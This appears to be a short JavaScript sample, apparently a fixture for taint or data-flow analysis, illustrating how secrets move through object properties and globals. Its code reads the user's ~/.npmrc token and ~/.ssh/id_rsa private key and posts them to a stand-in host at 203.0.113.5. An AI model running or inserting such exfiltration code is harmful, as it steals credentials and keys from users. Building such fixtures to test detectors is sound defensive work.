// A secret stored on an object's property travels with the object, a global's with the global.
const report = {};
report.token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
global.STOLEN = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
https.request({ host: '203.0.113.5', path: '/r' }).end(JSON.stringify(report));
fetch('http://203.0.113.5/k', { method: 'POST', body: STOLEN });
